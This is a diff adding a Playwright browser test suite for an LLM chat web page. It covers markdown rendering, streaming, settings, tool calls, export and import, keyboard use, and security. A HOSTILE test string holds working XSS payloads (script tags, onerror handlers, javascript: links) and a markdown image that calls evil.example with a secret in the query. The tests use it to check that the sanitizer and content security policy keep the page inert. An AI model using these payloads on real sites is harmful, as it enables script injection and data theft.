@@ -1,0 +1,619 @@
+"""The chat page in a real browser, against a real server.
+
+The model is tiny and random, so where the words matter a grammar makes it say them: the page's own
+request gets `structured_outputs` on its way. No test may leave an error in the console, or ask any
+host but the server for anything.
+"""
+
+import json
+import re
+import shutil
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from opennemo.serve.app import PAGE_POLICY, WEB
+from opennemo.serve.errors import Refusal
+
+sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+expect = sync_api.expect
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "google-chrome"))), None)
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: make browser")
+with_libraries = pytest.mark.skipif(
+    not (WEB / "vendor").is_dir(), reason="the page's libraries are not there: make test fetches"
+)
+FLAGS = [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-sync", "--disable-background-networking", "--disable-component-update",
+    "--disable-dev-shm-usage",
+]  # fmt: skip
+LONG = {"ignore_eos": True, "max_tokens": 3500}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+class Chat:
+    """The page, and what goes between it and the server."""
+
+    def __init__(self, page: Any, server: Any):
+        self.page, self.server, self.url = page, server, f"{server.url}/"
+        self.bodies: list[dict[str, Any]] = []  # of requests for answers, as the page sent them
+        self.extra: dict[str, Any] = {}  # what they get besides
+        self.foreign: list[str] = []
+        self.complaints: list[str] = []
+        page.context.on("request", self._on_request)
+        page.on("console", lambda m: m.type == "error" and self.complaints.append(m.text))
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        page.on("dialog", lambda dialog: (self.complaints.append("a dialog"), dialog.dismiss()))
+        page.route("**/v1/chat/completions", self._on_answer)
+
+    def _on_request(self, request: Any) -> None:
+        if not request.url.startswith((self.url, "blob:")):
+            self.foreign.append(request.url)
+
+    def _on_answer(self, route: Any) -> None:
+        body = json.loads(route.request.post_data)
+        self.bodies.append(body)
+        route.continue_(post_data=json.dumps(body | self.extra))
+
+    def open(self, key: str | None = "the server's") -> "Chat":
+        if key:
+            self.page.add_init_script(f"sessionStorage.setItem('key', '{self.server.key}')")
+        self.page.goto(self.url)
+        if key:
+            expect(self.page.locator("#model option")).to_be_attached()
+        return self
+
+    def ask(self, text: str, answer: str | None = None) -> None:
+        """Send a message; `answer` is what the model shall say to it."""
+        if answer is not None:
+            self.extra = {"structured_outputs": {"choice": [answer]}}
+        self.page.fill("#draft", text)
+        self.page.press("#draft", "Enter")
+        self.wait()
+
+    def wait(self) -> None:
+        expect(self.page.locator("#send")).to_be_visible(timeout=20_000)
+
+    def wait_until_idle(self) -> None:
+        while self.server.service.active:
+            time.sleep(0.01)
+
+    def settings(self, **values: str) -> None:
+        self.page.click("#show-settings")
+        for name, value in values.items():
+            field = self.page.locator(f"[name={name}]")
+            field.select_option(value) if name == "toolChoice" else field.fill(value)
+        self.page.click("#show-settings")
+
+    def take(self, conversation: Any) -> None:
+        """Import a conversation."""
+        file = {
+            "name": "a.json",
+            "mimeType": "application/json",
+            "buffer": json.dumps(conversation).encode(),
+        }
+        self.page.set_input_files("#file", file)
+
+
+@pytest.fixture
+def chat(browser, server) -> Iterator[Chat]:
+    context = browser.new_context(viewport={"width": 1200, "height": 800}, reduced_motion="reduce")
+    context.set_default_timeout(10_000)
+    chat = Chat(context.new_page(), server)
+    yield chat
+    context.close()
+    assert not chat.foreign, "the page asked other hosts"
+    assert not chat.complaints
+    chat.wait_until_idle()  # what was still being answered is given up with the page
+
+
+@with_libraries
+def test_answers_are_shown_as_markdown(chat):
+    page = chat.open().page
+    code = "def f(x):\n    return x < 1 & 2"
+    chat.ask(
+        "Hi",
+        f"# Title\n\nSome *words*.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\n{code}\n```",
+    )
+    answer = page.locator(".assistant")
+    expect(answer.locator("h1")).to_have_text("Title")
+    expect(answer.locator("em")).to_have_text("words")
+    expect(answer.locator("td").last).to_have_text("2")
+    expect(answer.locator("pre code")).to_have_text(code + "\n", use_inner_text=False)
+    expect(answer.locator(".hljs-keyword").first).to_have_text("def")
+    expect(answer.locator(".stats")).to_have_text(
+        re.compile(r"^\d+ tokens · [\d.]+ tokens/s · first after [\d.]+ m?s$")
+    )
+    expect(page.locator("#status")).to_contain_text("Answer: # Title")
+    expect(page.locator("#context .text")).to_have_text(re.compile(r"^\d{2,} / 4,096$"))
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    answer.get_by_label("Copy the code").click()
+    page.wait_for_function("navigator.clipboard.readText().then((t) => t.startsWith('def f'))")
+
+
+def test_an_answer_streams_and_stopping_ends_the_work_of_the_server(chat):
+    page = chat.open().page
+    for stop in (lambda: page.keyboard.press("Escape"), lambda: page.click("#stop")):
+        chat.extra = LONG
+        page.fill("#draft", "Go on for long")
+        page.press("#draft", "Enter")
+        expect(page.locator(".running .stats")).to_contain_text("tokens")
+        expect(page.locator(".running .markdown")).not_to_be_empty()  # while it is being written
+        stop()
+        chat.wait()
+        expect(page.locator(".assistant .stats").last).to_contain_text("stopped")
+        chat.wait_until_idle()
+    assert page.locator(".assistant .error").count() == 0
+    expect(page.locator("#draft")).to_be_focused()
+
+
+def test_versions_of_answers_and_messages(chat):
+    page = chat.open().page
+    chat.ask("First", "one")
+    chat.extra = {"structured_outputs": {"choice": ["two"]}}
+    page.get_by_label("Answer again").click()
+    chat.wait()
+    answer, versions = page.locator(".assistant .body"), page.get_by_role("group", name="Versions")
+    expect(answer).to_have_text("two")
+    expect(versions).to_have_text("2 / 2")
+    chat.ask("Second", "three")
+    assert [m["content"] for m in chat.bodies[-1]["messages"]] == ["First", "two", "Second"]
+
+    page.locator(".user").first.hover()
+    page.get_by_label("Edit").first.click()
+    editor = page.get_by_label("Edit the message")
+    expect(editor).to_have_value("First")
+    editor.press("Escape")
+    expect(editor).to_have_count(0)
+    page.get_by_label("Edit").first.click()
+    editor.fill("Changed")
+    chat.extra = {"structured_outputs": {"choice": ["four"]}}
+    editor.press("Enter")
+    chat.wait()
+    assert [m["content"] for m in chat.bodies[-1]["messages"]] == ["Changed"]
+    expect(page.locator("article .body")).to_have_text(["Changed", "four"])
+
+    page.get_by_label("Previous version").first.click()
+    expect(page.locator("article .body")).to_have_text(["First", "two", "Second", "three"])
+    page.get_by_label("Previous version").nth(1).click()
+    expect(page.locator("article .body")).to_have_text(["First", "one"])
+    expect(page.get_by_label("Next version").nth(1)).to_be_focused()
+    page.wait_for_timeout(500)  # after which it has been written
+    page.reload()
+    expect(page.locator("article .body")).to_have_text(["First", "one"])
+    page.get_by_label("Next version").first.click()
+    expect(page.locator("article .body")).to_have_text(["Changed", "four"])
+
+
+def test_settings_are_sent(chat):
+    page = chat.open().page
+    numbers = {
+        "temperature": 0.75, "top_p": 0.9, "top_k": 40, "min_p": 0.05, "max_tokens": 5, "seed": 7,
+        "repetition_penalty": 1.1, "presence_penalty": -0.5, "frequency_penalty": 0.25,
+    }  # fmt: skip
+    chat.settings(
+        system="Be brief.", stop="END\n---", **{name: str(v) for name, v in numbers.items()}
+    )
+    expect(page.locator("#active")).to_contain_text("system prompt · temperature 0.75 · top p 0.9")
+    chat.ask("Hi")
+    body = chat.bodies[-1]
+    assert {name: body[name] for name in numbers} == numbers
+    assert body["stop"] == ["END", "---"] and "tools" not in body and "logprobs" not in body
+    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
+    expect(page.locator(".stats")).to_contain_text("5 tokens")
+    chat.settings(temperature="9", max_tokens="1.5")
+    expect(page.locator("[name=temperature]")).to_have_attribute("aria-invalid", "true")
+    chat.settings(max_tokens="4")
+    chat.ask("Hi")
+    assert "temperature" not in chat.bodies[-1] and chat.bodies[-1]["max_tokens"] == 4
+    page.click("#new")  # a new conversation goes on with the settings of the last
+    expect(page.locator("[name=system]")).to_have_value("Be brief.")
+    page.click("#show-settings")
+    page.click("text=Reset")
+    expect(page.locator("[name=top_p]")).to_have_value("")
+
+
+def test_a_call_is_answered_in_a_form(chat):
+    page = chat.open().page
+    page.click("#show-settings")
+    state = page.locator("#tools-state")
+    for text, complaint in (
+        ("[{", "No JSON"), ("{}", "Expected a list"), ('[{"type": "function"}]', "function.name"),
+        ('[{"type": "function", "function": {"name": "f", "parameters": []}}]', "parameters"),
+    ):  # fmt: skip
+        page.fill("[name=tools]", text)
+        expect(state).to_contain_text(complaint)
+    expect(page.locator("#active")).to_contain_text("not valid")
+    page.click("text=Insert an example")
+    expect(state).to_have_text("✓ get_weather")
+    page.click("#show-settings")
+    chat.settings(toolChoice="required", max_tokens="400")
+    chat.ask("How is the weather?")
+    body = chat.bodies[-1]
+    assert body["tools"][0]["function"]["name"] == "get_weather"
+    assert body["tool_choice"] == "required"
+    cards = page.locator(".call")
+    expect(cards.first.locator("h3")).to_have_text("get_weather")
+    results = [f'{{"degrees": {i}}}' for i in range(cards.count())]
+    for i, result in enumerate(results):
+        arguments = json.loads(cards.nth(i).locator("pre").inner_text())
+        assert arguments["unit"] in ("celsius", "fahrenheit")
+        cards.nth(i).locator("textarea").fill(result)
+    chat.settings(max_tokens="4")
+    page.get_by_role("button", name=re.compile("Send the result")).click()
+    chat.wait()
+    calls, *answers = chat.bodies[-1]["messages"][1:]
+    assert [answer["content"] for answer in answers] == results
+    assert [answer["tool_call_id"] for answer in answers] == [c["id"] for c in calls["tool_calls"]]
+    assert chat.bodies[-1]["tool_choice"] == "auto"
+    expect(page.locator(".calls textarea")).to_have_count(0)
+    expect(page.locator(".tool summary").first).to_have_text("Result of get_weather")
+    assert page.locator(".error").count() == 0
+
+
+def test_tokens_and_what_else_could_have_stood_there(chat):
+    page = chat.open().page
+    chat.settings(max_tokens="6")
+    chat.ask("Hi")
+    assert "logprobs" not in chat.bodies[-1]
+    page.get_by_label("Token view").click()
+    expect(page.locator(".stats")).to_contain_text("answer again to see its tokens")
+    chat.extra = {"ignore_eos": True}
+    page.get_by_label("Answer again").click()
+    chat.wait()
+    assert chat.bodies[-1]["logprobs"] is True and chat.bodies[-1]["top_logprobs"] == 5
+    tokens = page.locator(".token")
+    expect(tokens).to_have_count(6)
+    assert 0 < float(tokens.first.evaluate("t => t.style.getPropertyValue('--doubt')")) <= 1
+    tokens.nth(2).hover()
+    tip = page.locator("#tip")
+    expect(tip).to_contain_text("log-probability")
+    assert tip.locator("tr").count() in (5, 6)
+    page.mouse.move(0, 0)
+    expect(tip).to_be_hidden()
+    page.locator(".tokens").focus()
+    page.keyboard.press("ArrowRight")
+    expect(tokens.first).to_have_class("token pointed")
+    page.get_by_label("Token view").click()
+    expect(tokens).to_have_count(0)
+
+
+def test_conversations_are_kept_renamed_and_deleted(chat):
+    page = chat.open().page
+    chat.ask("The first one", "one")
+    page.keyboard.press("Control+Shift+O")
+    expect(page.locator("#welcome")).to_be_visible()
+    chat.ask("The second one", "two")
+    names = page.locator("#conversations .open")
+    expect(names).to_have_text(["The second one", "The first one"])
+    page.locator("#conversations li").first.hover()
+    page.get_by_label("Rename").first.click()
+    page.get_by_label("Name of the conversation").fill("Another name")
+    page.keyboard.press("Enter")
+    page.keyboard.press("Alt+ArrowDown")
+    expect(page.locator("article .body")).to_have_text(["The first one", "one"])
+    page.wait_for_timeout(500)
+    page.reload()
+    expect(names).to_have_text(["Another name", "The first one"])
+    expect(page.locator("#title")).to_have_text("Another name")
+    page.locator("#conversations li").first.hover()
+    page.get_by_label("Delete").first.click()
+    expect(names).to_have_text(["The first one"])
+    page.click("text=Undo")
+    expect(names).to_have_text(["Another name", "The first one"])
+    page.locator("#conversations li").first.hover()
+    page.get_by_label("Delete").first.click()
+    page.wait_for_timeout(500)
+    page.reload()
+    expect(names).to_have_text(["The first one"])
+
+
+def test_an_export_is_a_request_and_comes_back_the_same(chat):
+    page = chat.open().page
+    chat.settings(system="Be kind.", temperature="0.5", max_tokens="8", stop="X")
+    chat.ask("Hello", "Hi")
+    page.locator("#conversations li").first.hover()
+    with page.expect_download() as download:
+        page.get_by_label("Export", exact=True).click()
+    assert download.value.suggested_filename == "Hello.json"
+    body = json.loads(download.value.path().read_text())
+    assert body["messages"] == [
+        {"role": "system", "content": "Be kind."},
+        {"role": "user", "content": "Hello"},
+        {"role": "assistant", "content": "Hi"},
+    ]
+    with chat.server.client() as http:  # any client can go on with it
+        body["messages"].append({"role": "user", "content": "More"})
+        assert http.post("/v1/chat/completions", json=body).status_code == 200
+        del body["messages"][-1]
+
+    call = {"id": "abcdefghi", "type": "function", "function": {"name": "f", "arguments": "{}"}}
+    other = [
+        {"role": "user", "content": [{"type": "text", "text": "Call it"}]},
+        {"role": "assistant", "content": None, "tool_calls": [call]},
+        {"role": "tool", "tool_call_id": "abcdefghi", "content": "done"},
+        {"role": "assistant", "content": "It is done."},
+    ]
+    chat.take([{"messages": other}, body])
+    expect(page.locator("#conversations .open")).to_have_text(["Call it", "Hello", "Hello"])
+    expect(page.locator("article")).to_have_count(4)
+    page.locator("#conversations .open").nth(1).click()
+    expect(page.locator("[name=temperature]")).to_have_value("0.5")
+    with page.expect_download() as download:
+        page.click("text=Export all")
+    exported = json.loads(download.value.path().read_text())
+    assert exported[0]["messages"][1] == other[1] | {"content": ""}
+    assert exported[1] == exported[2] == body
+    for wrong, complaint in (
+        ({"x": 1}, "expected"), ([{"role": "robot"}], "messages[0].role"),
+        ([{"role": "user", "content": 5}], "messages[0].content"),
+    ):  # fmt: skip
+        chat.take(wrong)
+        expect(page.locator("#toast")).to_contain_text(complaint)
+    expect(page.locator("#conversations .open")).to_have_count(3)
+
+
+HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
+<img src="https://evil.example/track.png"><iframe src="https://evil.example"></iframe>
+
+![an image](https://evil.example/leak.png?q=secret)
+[a link](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>)
+[twice](&#106;avascript:window.pwned=1) [ok](https://good.example/)
+
+<svg onload="window.pwned = 1"><style>body { display: none }</style><a href="javascript:1">x</a>
+<form action="https://evil.example"><input name=a><button>b</button></form>
+
+| a |
+|---|
+| <img src=x onerror=pwned=1> |
+
+```"><img src=x onerror=pwned=1>
+</code><script>window.pwned = 1</script>
+```"""
+
+
+def inert(chat: Chat) -> None:
+    page = chat.page
+    assert page.evaluate("window.pwned === undefined && !document.body.matches('[onload]')")
+    for name in ("script", "img", "iframe", "svg", "style", "form", "input", "object"):
+        assert page.locator(f".markdown {name}:not(button svg)").count() == 0, name
+    links = page.locator("#thread a[href]").evaluate_all("all => all.map(a => [a.href, a.rel])")
+    assert all(re.match("https?://", href) and "noopener" in rel for href, rel in links)
+    for text in ("<script>window.pwned = 1</script>", 'onerror="window.pwned = 1"', "<iframe"):
+        expect(page.locator(".assistant .body")).to_contain_text(text)
+    assert not chat.foreign
+
+
+@with_libraries
+def test_hostile_answers_do_nothing(chat):
+    page = chat.open().page
+    chat.ask("<img src=x onerror=pwned=1>", HOSTILE)
+    inert(chat)
+    assert page.get_by_role("link", name="ok").get_attribute("href") == "https://good.example/"
+    page.wait_for_timeout(500)
+    page.reload()
+    inert(chat)
+    page.get_by_label("Token view").click()
+    chat.ask("Again", "<img src=x onerror=pwned=1>")
+    expect(page.locator(".tokens")).to_contain_text("<img src=x")
+    assert page.evaluate("window.pwned === undefined")
+
+
+def test_hostile_files_do_nothing(chat):
+    page = chat.open().page
+    call = {"function": {"name": "<img src=x onerror=pwned=1>", "arguments": "<script>1</script>"}}
+    messages = [
+        {"role": "user", "content": HOSTILE},
+        {"role": "assistant", "content": HOSTILE, "tool_calls": [call]},
+        {"role": "tool", "name": "<img src=x>", "content": HOSTILE},
+        {"role": "assistant", "content": HOSTILE},
+    ]
+    chat.take({"messages": messages, "metadata": {"title": "<img src=x onerror=pwned=1>"}})
+    expect(page.locator("#title")).to_have_text("<img src=x onerror=pwned=1>")
+    expect(page.locator("article")).to_have_count(4)
+    assert page.locator("#thread img, #thread script, #conversations img").count() == 0
+    assert page.evaluate("window.pwned === undefined")
+
+
+def test_the_policy_would_stop_what_came_past_the_sanitizer(chat):
+    page = chat.open().page
+    assert "unsafe" not in PAGE_POLICY and "http" not in PAGE_POLICY
+    assert page.goto(chat.url).headers["content-security-policy"] == PAGE_POLICY
+    refused = page.evaluate(
+        """() => { try { document.body.innerHTML = "<b>x</b>"; } catch (e) { return e.name; } }"""
+    )
+    assert refused == "TypeError"
+    failures = []
+    page.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
+    page.evaluate(
+        """() => {
+            const image = new Image();
+            image.src = "https://evil.example/x.png";
+            const script = document.createElement("script");
+            try { script.text = "window.pwned = 1"; } catch { script.append("window.pwned = 1"); }
+            document.body.append(image, script);
+        }"""
+    )
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.pwned === undefined")
+    assert failures == [("https://evil.example/x.png", "csp")]
+    chat.foreign.clear()  # it was tried, and stopped in the browser
+    assert chat.complaints and all(
+        "Content Security" in c or "Trusted" in c for c in chat.complaints
+    )
+    chat.complaints.clear()
+
+
+@pytest.mark.parametrize("width", [390, 320])
+def test_a_phone_is_wide_enough(chat, width):
+    page = chat.page
+    page.set_viewport_size({"width": width, "height": 700})
+    chat.open()
+
+    def fits() -> bool:
+        return page.evaluate(
+            """[document.documentElement, document.querySelector("#scroller")]
+            .every((e) => e.scrollWidth <= e.clientWidth)"""
+        )
+
+    assert fits()
+    row = "| " + " | ".join("a wide cell" for _ in range(12)) + " |"
+    wide = f"{'w' * 300}\n\n```python\n{'x' * 300}\n```\n\n{row}\n{'|---' * 12}|\n{row}"
+    chat.take([{"role": "user", "content": "u" * 300}, {"role": "assistant", "content": wide}])
+    expect(page.locator("article")).to_have_count(2)
+    assert fits()
+    chat.ask("Hi", "Hello")
+    assert fits()
+    for button in ("#show-sidebar", "#show-settings"):
+        page.click(button)
+        panel = page.locator("#" + page.locator(button).get_attribute("aria-controls"))
+        expect(panel).to_be_in_viewport(ratio=0.95)
+        assert fits()
+        page.keyboard.press("Escape")
+        expect(panel).not_to_be_in_viewport()
+    page.click("#show-sidebar")
+    page.locator("#scrim").click(position={"x": width - 5, "y": 300})
+    expect(page.locator("#scrim")).to_be_hidden()
+
+
+@with_libraries
+def test_arabic_runs_from_right_to_left(chat):
+    page = chat.open().page
+    arabic = "عاصمة فرنسا هي **باريس**."
+    chat.ask(
+        "ما هي عاصمة فرنسا؟", f"{arabic}\n\n1. {arabic}\n\n```python\nprint(1)\n```\n\nEnglish."
+    )
+    for selector, direction in (
+        (".user .text", "rtl"), (".assistant p >> nth=0", "rtl"), (".assistant ol", "rtl"),
+        (".assistant pre", "ltr"), (".assistant p >> nth=-1", "ltr"), ("#title", "rtl"),
+    ):  # fmt: skip
+        found = page.locator(selector).evaluate("e => getComputedStyle(e).direction")
+        assert found == direction, selector
+    page.fill("#draft", "مرحبا")
+    assert page.locator("#draft").evaluate("e => e.matches(':dir(rtl)')")
+
+
+def test_the_keyboard_is_enough(chat):
+    page = chat.open().page
+    draft = page.locator("#draft")
+    expect(draft).to_be_focused()
+    page.keyboard.type("one")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("two")
+    expect(draft).to_have_value("one\ntwo")
+    chat.extra = {"structured_outputs": {"choice": ["yes"]}}
+    page.keyboard.press("Enter")
+    chat.wait()
+    assert chat.bodies[-1]["messages"][-1]["content"] == "one\ntwo"
+    page.keyboard.press("ArrowUp")
+    expect(page.get_by_label("Edit the message")).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(page.get_by_label("Edit").first).to_be_focused()
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
+    page.keyboard.press("Escape")
+    page.keyboard.press("Control+.")
+    expect(page.locator("[name=system]")).to_be_focused()
+    page.keyboard.press("Control+.")
+    expect(page.locator("#show-settings")).to_be_focused()
+    assert (
+        page.locator("#show-settings").evaluate("e => getComputedStyle(e).outlineStyle") != "none"
+    )
+    page.keyboard.press("/")
+    expect(draft).to_be_focused()
+    nameless = page.locator("button, input, textarea, select, a").evaluate_all(
+        """all => all.filter((e) => !(e.ariaLabel || e.innerText || e.labels?.length))
+        .map((e) => e.outerHTML)"""
+    )
+    assert not nameless
+
+
+def test_a_key_is_asked_for_and_kept_as_wanted(chat):
+    page = chat.open(key=None).page
+    dialog = page.get_by_role("dialog", name="API key")
+    expect(dialog).to_contain_text("asks for one")
+    page.fill("#key", "not-the-key")
+    page.keyboard.press("Enter")
+    expect(dialog).to_contain_text("does not know this key")
+    page.keyboard.press("Escape")
+    expect(page.locator("#notice")).to_contain_text("no valid API key")
+    page.click("text=Enter a key")
+    page.fill("#key", chat.server.key)
+    page.click("text=Use it")
+    expect(page.locator("#model option")).to_be_attached()
+    expect(page.locator("#notice")).to_be_hidden()
+    chat.ask("Hi", "Hello")
+    expect(page.locator(".assistant .body")).to_have_text("Hello")
+    where = "() => [sessionStorage.getItem('key'), localStorage.getItem('key')]"
+    assert page.evaluate(where) == [chat.server.key, None]
+    page.get_by_role("button", name="API key").click()
+    page.fill("#key", chat.server.key)
+    page.check("#key-keep")
+    page.click("text=Use it")
+    assert page.evaluate(where) == [None, chat.server.key]
+    page.get_by_role("button", name="API key").click()
+    page.click("text=Forget")
+    assert page.evaluate(where) == [None, None]
+    assert all("401" in complaint for complaint in chat.complaints)
+    chat.complaints.clear()
+
+
+def test_errors_stand_where_they_happen_and_can_be_retried(chat):
+    page = chat.open().page
+    chat.extra = {"temperature": 77}
+    chat.ask("Hi")
+    error = page.locator(".assistant .error")
+    expect(error).to_contain_text("temperature")
+    chat.extra = {"structured_outputs": {"choice": ["Hello"]}}
+    page.click("text=Try again")
+    chat.wait()
+    expect(page.locator("article .body")).to_have_text(["Hi", "Hello"])
+    expect(error).to_have_count(0)
+    expect(page.get_by_role("group", name="Versions")).to_have_count(0)
+
+    chat.extra = LONG
+    page.fill("#draft", "On")
+    page.press("#draft", "Enter")
+    expect(page.locator(".running .stats")).to_contain_text("tokens")
+    for generation in list(chat.server.service.active):
+        generation.abort(Refusal(503, "the server is shutting down", "service_unavailable"))
+    expect(error).to_contain_text("shutting down")
+    expect(page.locator(".assistant .markdown").last).not_to_be_empty()  # what came stays
+
+    page.route("**/v1/chat/completions", lambda route: route.abort())
+    page.click("text=Try again")
+    expect(error).to_contain_text("does not answer")
+    chat.complaints.clear()
+
+
+def test_it_works_without_the_libraries(chat):
+    chat.page.route("**/vendor/*", lambda route: route.fulfill(status=404))
+    page = chat.open().page
+    chat.ask("Hi", "**As** it <b>is</b>\n\n    x")
+    expect(page.locator(".markdown.plain")).to_have_text("**As** it <b>is</b>\n\n    x")
+    assert all("404" in complaint for complaint in chat.complaints)
+    chat.complaints.clear()
+
+
+def test_light_and_dark(chat):
+    page = chat.open().page
+    page.emulate_media(color_scheme="dark")
+    background = "() => getComputedStyle(document.documentElement).backgroundColor"
+    dark = page.evaluate(background)
+    page.locator("#theme").click()
+    light = page.evaluate(background)
+    assert light != dark
+    page.reload()
+    assert page.evaluate(background) == light
+    expect(page.locator("#theme")).to_have_attribute("aria-label", "Theme: light")
+    page.locator("#theme").click()
+    assert page.evaluate(background) == dark
